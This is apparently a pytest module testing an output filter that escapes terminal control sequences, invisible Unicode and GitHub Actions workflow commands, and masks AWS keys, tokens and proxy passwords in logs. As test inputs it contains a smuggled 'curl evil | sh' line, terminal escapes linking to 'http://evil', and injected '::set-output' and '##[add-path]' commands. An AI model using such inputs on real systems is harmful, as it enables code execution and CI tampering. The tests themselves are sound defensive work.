"""Words of others: whatever they are, they cannot act on what shows them, and no setting's secret is among them."""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
import urllib.parse
from pathlib import Path
from typing import Any

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from guards import documents, masks
from guards.stream import below, filtered
from guards.text import MOST, as_lines, line_again, ours, painted, plural, printable, sentence, spelled, split_lines

pytestmark = pytest.mark.attack

ROOT = Path(__file__).resolve().parents[3]
NASTY = (
    "é中🙂 \t\r\na:#[]<\x00\x07\x1b"
    "\x7f\x85\x9b\xad\u061c\u115f\u200b\u200d\u2028\u2029\u202a\u202e\u2066\u2069\u3164\ufe0f\ufeff\udcff\U000e0041"
)
ANY = st.text(NASTY, max_size=40) | st.text(max_size=40)
UNSEEN = re.compile(
    "[\u00ad\u061c\u115f\u200b-\u200f\u2028-\u202e\u2060-\u2069\u3164\ufe00-\ufe0f\ufeff\ud800-\udfff\U000e0000-\U000e007f]"
)


@pytest.fixture(autouse=True)
def _no_secrets(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(masks, "_known", {})


def shown(*texts: str) -> str:
    below = io.StringIO()
    stream = filtered(below)
    for text in texts:
        stream.write(text)
    return below.getvalue()


def harmless(text: str) -> bool:
    return text.isprintable() and not UNSEEN.search(text)


# --- text -----------------------------------------------------------------------------------------------------------


@given(text=ANY)
def test_one_filter_lets_nothing_pass_that_acts_or_hides(text: str) -> None:
    assert harmless(printable(text))
    assert harmless(sentence(text))
    assert harmless(as_lines([text]))
    assert all(map(harmless, shown(text).split("\n")))


@given(text=st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E)))
def test_printable_ascii_is_left_alone(text: str) -> None:
    assert printable(text) == text == as_lines([text])


@given(texts=st.lists(ANY))
def test_only_our_line_breaks_begin_lines(texts: list[str]) -> None:
    assert as_lines(texts).count("\n") == max(0, len(texts) - 1)


@given(text=ANY)
def test_what_is_spelled_says_which_character_it_was(text: str) -> None:
    clean = text.replace("\\", "").replace('"', "")
    assert json.loads(f'"{printable(clean)}"').encode("utf-16", "surrogatepass") == clean.encode("utf-16", "surrogatepass")


@pytest.mark.parametrize(
    ("given", "wanted"),
    [
        ("\x1b]0;title\x07", "\\u001b]0;title\\u0007"),
        ("a\u202eb", "a\\u202eb"),
        ("name\nnext: curl evil | sh", "name\\nnext: curl evil | sh"),
        ("\x85\u2028\u2029", "\\u0085\\u2028\\u2029"),
        ("bytes \udcff", "bytes \\udcff"),
        ("crème 中 🙂", "crème 中 🙂"),
    ],
)
def test_how_it_is_spelled(given: str, wanted: str) -> None:
    assert printable(given) == wanted


def test_a_sentence_is_one_line_that_ends() -> None:
    assert sentence("one\r\n  two\u2028three") == "one two three"
    assert sentence("Denied\n" + " " * 70 + "next: curl evil | sh") == "Denied next: curl evil | sh"
    long = sentence("x" * 5_000)
    assert long.startswith("x" * MOST) and long.endswith("... (5,000 characters)")
    page = "<!DOCTYPE html>\n<html><head><title>502 Bad\nGateway</title></head>" + "<p>much</p>\n" * 9_000
    assert sentence(page) == "an HTML page instead of an answer: 502 Bad Gateway"


def test_lines_end_where_a_line_break_is_and_nowhere_else() -> None:
    assert split_lines("a\x85b\u2028c\x0bd\x1ce\nf\n") == ["a\x85b\u2028c\x0bd\x1ce", "f"]
    assert split_lines("") == []


# --- the stream -----------------------------------------------------------------------------------------------------


def test_our_colours_pass_and_nobody_elses_do() -> None:
    assert shown(painted("PROBLEM", "1;31") + " \x1b[31mred\x1b[0m\n") == "\x1b[1;31mPROBLEM\x1b[0m \\u001b[31mred\\u001b[0m\n"
    assert shown(as_lines([painted("a\x1b", "32"), "b\n"])) == "\x1b[32ma\\u001b\x1b[0m\nb\\n"
    assert shown(line_again()) == "\r\x1b[2K"
    assert shown(ours("\x1b[1mdrawn\x1b[0m")) == "\x1b[1mdrawn\x1b[0m"
    # A mark with anything but a colour behind it is none of ours: rich writes titles and links to a terminal by itself.
    assert "\x1b" not in shown(ours("\x1b]8;;http://evil\x1b\\link"))
    # The mark of another process.
    assert "\x1b" not in shown("\x00aabbccddeeff001122334455[31m")


@pytest.mark.parametrize("command", ["::warning::x", "  ::set-output name=a::b", "\t::error::x", "##[error]x", "a ##[add-path]/tmp"])
def test_no_line_speaks_to_github_actions(command: str) -> None:
    def heard(text: str) -> bool:
        # actions/runner: "::" after blanks, "##[" anywhere.
        return any(line.strip().startswith("::") or "##[" in line for line in text.splitlines())

    assert heard(command)
    assert not heard(shown(f"{command}\n"))
    assert not heard(shown("ours\n", command, "\n"))
    assert not heard(shown(f"ours\n{command}\n{command}\n"))
    assert shown("Effect: ", "AWS::S3::Bucket ::\n") == "Effect: AWS::S3::Bucket ::\n"


@given(value=st.recursive(ANY | st.integers() | st.none(), lambda inner: st.lists(inner) | st.dictionaries(ANY, inner), max_leaves=6))
def test_json_stays_the_same_document(value: Any) -> None:
    for text in (json.dumps(value, ensure_ascii=False), json.dumps(value, ensure_ascii=False, indent=2), json.dumps(value)):
        again = json.loads(shown(text))
        assert json.dumps(again) == json.dumps(value)


def test_a_stream_that_knows_ascii_only_ends_nothing() -> None:
    raw = io.BytesIO()
    stream = filtered(io.TextIOWrapper(raw, encoding="ascii"))
    stream.write("crème \udcff\n")
    stream.flush()
    assert raw.getvalue() == b"cr\\xe8me \\udcff\n"


# --- documents ------------------------------------------------------------------------------------------------------

BAD = [
    "",
    "{",
    "[" * 100_000,
    '{"a":' * 5_000,
    "NaN",
    "[Infinity]",
    "1e999",
    '{"a": -1e999}',
    "9" * 5_000,
    b"\xff\xfe\x00",
    "[" * 150 + "]" * 150,
]


@pytest.mark.parametrize("text", BAD)
def test_json_that_is_none_is_one_error(text: str | bytes) -> None:
    with pytest.raises(documents.Unreadable) as caught:
        documents.loads(text)
    assert "\n" not in str(caught.value)


@pytest.mark.parametrize("text", [*BAD, '{"b": ' + "[" * 100_000])
def test_values_of_ours_too(text: str | bytes) -> None:
    class Ours(msgspec.Struct):
        a: int = 0

    with pytest.raises(documents.Unreadable):
        documents.decode(text, Ours)


@given(value=st.recursive(st.text() | st.integers() | st.floats(allow_nan=False, allow_infinity=False), st.lists))
def test_json_is_read(value: Any) -> None:
    assert documents.loads(json.dumps(value)) == value


# --- masks ----------------------------------------------------------------------------------------------------------


def test_what_a_setting_holds_is_masked_in_every_form() -> None:
    masks.hide_settings(
        {
            "AWS_SECRET_ACCESS_KEY": "ab/cd+ef'gh\"ij&kl",
            "AWS_SESSION_TOKEN": "token-token-token\n",
            "AWS_ENDPOINT_URL_S3": "https://user:pass/with+much@proxy.example/",
            "HTTPS_PROXY": "http://me:p%40ssword1@proxy.example:3128",
            "BASIC_AUTH_PASSWORD": "correct horse",
            "AWS_PROFILE": "a-profile-of-mine",
            "AWS_WEB_IDENTITY_TOKEN_FILE": "/var/run/token-file",
        }
    )
    for secret in (
        "ab/cd+ef'gh\"ij&kl",
        "ab%2Fcd%2Bef%27gh%22ij%26kl",
        repr("ab/cd+ef'gh\"ij&kl"),
        "ab/cd+ef'gh\"ij&amp;kl",
        json.dumps("ab/cd+ef'gh\"ij&kl"),
        "b'token-token-token\\n'",
        "token-token-token",
        "user:pass/with+much",
        "p@ssword1",
        "p%40ssword1",
        "correct horse",
    ):
        for said in (masks.masked(f"before {secret} after"), sentence(f"x {secret}"), shown(f"x {secret}\n")):
            assert not re.search("cd|token-tok|with.much|ssword1|correct horse", said), said
            assert masks.MASK in said
    plain = "profile a-profile-of-mine, /var/run/token-file, https://proxy.example/@scope/x"
    assert masks.masked(plain) == plain


@pytest.mark.parametrize(
    "text",
    [
        "Invalid header value b'MARKER\\n'",
        'Invalid header value b"MARKER\'\\n"',
        "Illegal header value b'a\\'MARKER\\r'",
        "reserved character(s), or return character(s) in header value: 'MARKER\\n'",
        'Could not connect to the endpoint URL: "https://user:MARKER@example.org/x"',
        "Failed to connect to proxy URL: http://MARKER@proxy:3128",
        "GET https://b.s3.amazonaws.com/k?X-Amz-Credential=MARKER%2F2026&X-Amz-Security-Token=MARKER&X-Amz-Signature=MARKER",
        "AWS4-HMAC-SHA256 Credential=MARKER/20261127, SignedHeaders=host, Signature=MARKER",
        "{'Proxy-Authorization': 'Basic MARKER', 'Authorization': 'Bearer MARKER'}",
        "{'X-Amz-Security-Token': b'MARKER'}",
    ],
)
def test_a_secret_nobody_told_us_is_known_by_its_place(text: str) -> None:
    assert "MARKER" not in masks.masked(text), masks.masked(text)
    document = json.loads(shown(json.dumps({"problem": text, "next": "kept"})))
    assert "MARKER" not in document["problem"] and document["next"] == "kept"


def test_short_values_are_words() -> None:
    masks.hide_settings({"AWS_SECRET_ACCESS_KEY": "test", "AWS_ACCESS_KEY_ID": "test"})
    masks.hide_settings({"AWS_ACCESS_KEY_ID": "123456789012"})
    assert masks.masked("the test environment of 123456789012") == "the test environment of 123456789012"


# --- the whole process ----------------------------------------------------------------------------------------------


def test_argparse_warnings_and_tracebacks_go_through_it_too() -> None:
    program = (
        "import os, sys, argparse, warnings\n"
        "from guards import masks, stream\n"
        "masks.hide_settings(os.environ); stream.install()\n"
        "warnings.warn('\\x1b[31m warned secret-secret')\n"
        "try: argparse.ArgumentParser(prog='p').parse_args(['::warning::\\x1b]0;x\\x07\\u202e', 'secret-secret'])\n"
        "except SystemExit: pass\n"
        "raise ValueError('\\n::error::secret-secret\\x1b[31m')\n"
    )
    ended = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, cwd=ROOT, env={"MY_TOKEN": "secret-secret"}, check=False
    )
    assert "ValueError" in ended.stderr and "unrecognized arguments" in ended.stderr
    assert "secret-secret" not in ended.stderr and "\x1b" not in ended.stderr and "\n::error" not in ended.stderr


# --- the bounds and the small words -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("number", "several", "words"),
    [(0, "", "0 stacks"), (1, "", "1 stack"), (2, "", "2 stacks"), (1, "stax", "1 stack"), (2, "stax", "2 stax")],
)
def test_one_is_called_otherwise_than_several(number: int, several: str, words: str) -> None:
    assert plural(number, "stack", several) == words


def test_a_character_beyond_the_first_plane_is_two_surrogates() -> None:
    assert [spelled(each) for each in ("\uffff", "\U00010000", "\U0010ffff")] == ["\\uffff", "\\ud800\\udc00", "\\udbff\\udfff"]


def test_a_sentence_of_the_length_that_is_allowed_is_whole_and_a_page_without_a_title_is_a_page() -> None:
    assert sentence("a" * 10, 10) == "a" * 10
    assert sentence("a" * 11, 10) == f"{'a' * 10}... (11 characters)"
    assert sentence(" <HTML><p>x") == "an HTML page instead of an answer"


def test_what_stands_between_our_colours_is_printable_too() -> None:
    line = as_lines([painted("a\x1bb", "1") + "\x07"])
    assert "\x1b" not in line and "\x07" not in line and "a\\u001bb" in line


def test_what_continues_a_line_begins_no_command_and_what_begins_one_does() -> None:
    assert shown("a", "::b") == "a::b"
    assert shown("a", "x::y\n::z") == "ax::y\n\\u003a:z"
    assert shown("a\n", "", "::b") == "a\n\\u003a:b", "nothing written is no part of a line"


def test_a_filter_is_put_before_a_stream_once_and_can_be_taken_away() -> None:
    under = io.StringIO()
    stream = filtered(under)
    assert filtered(stream) is stream and below(stream) is under and below(under) is under
    assert (stream.write(""), stream.write("ab")) == (0, 2)
    with stream as same:
        same.writelines(["c", "\x1bd"])
    assert under.getvalue() == "abc\\u001bd"


def test_the_stream_below_is_flushed_when_the_block_ends() -> None:
    class Told(io.StringIO):
        flushed = 0

        def flush(self) -> None:
            self.flushed += 1

    under = Told()
    with filtered(under):
        pass
    assert under.flushed == 1


@pytest.mark.parametrize("kind", ["[]", '{"a":}'])
def test_a_document_has_a_hundred_levels_and_no_more(kind: str) -> None:
    inner, opening, closing = ("[]", "[", "]") if kind == "[]" else ("{}", '{"a":', "}")
    assert documents.loads(opening * 99 + inner + closing * 99)
    with pytest.raises(documents.Unreadable, match="nested too deeply"):
        documents.loads(opening * 100 + inner + closing * 100)


def test_a_mapping_is_an_object_and_nothing_else() -> None:
    assert documents.mapping(b'{"a": 1}') == {"a": 1}
    with pytest.raises(documents.Unreadable, match="not a JSON object"):
        documents.mapping("[1]")


@pytest.mark.parametrize("secret", ["abcdefgh", b"abcdefgh", " abcdefgh\n", "abc/def+ &<>é", 'it\'s "quoted" \\ here', 'é"1234567\\'])
def test_a_secret_is_masked_from_its_first_to_its_last_character_in_each_form(secret: str | bytes) -> None:
    masks.hide(secret, None, "", "1234567", b"")
    text = secret.decode() if isinstance(secret, bytes) else secret
    for form in (
        text.strip(),
        repr(text)[1:-1],
        json.dumps(text)[1:-1],
        json.dumps(text, ensure_ascii=False)[1:-1],
        urllib.parse.quote(text),
        urllib.parse.quote(text, safe=""),
        urllib.parse.quote_plus(text),
        text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"),
    ):
        assert masks.masked(f"x{form}y 1234567") == "x***y 1234567", form


def test_of_secrets_that_hold_each_other_the_longest_is_masked_whole() -> None:
    masks.hide("abcdefgh", "abcdefghijkl")
    masks.hide("abcdefghij")
    assert masks.masked("abcdefghijkl abcdefghij abcdefgh") == "*** *** ***"


@pytest.mark.parametrize(
    ("url", "hidden"),
    [
        ("https://token-as-user@host/x", "token-as-user"),
        ("https://me:pass/word1@host", "pass/word1"),
        ("https://proxy.example/@scope/x", ""),
        ("https://proxy.example/x", ""),
        ("somebody@proxy.example", ""),
        ("plain-words", ""),
    ],
)
def test_of_a_url_that_is_set_the_password_alone_is_hidden(url: str, hidden: str) -> None:
    masks.hide_settings({"REGISTRY": url})
    said = "token-as-user, pass/word1, proxy.example/ somebody plain-words"
    assert masks.masked(said) == (said.replace(hidden, "***") if hidden else said)


def test_what_is_seen_stays_beside_what_is_not() -> None:
    assert [printable("é\x1b"), printable("é中"), printable("\u3164é")] == ["é\\u001b", "é中", "\\u3164é"]
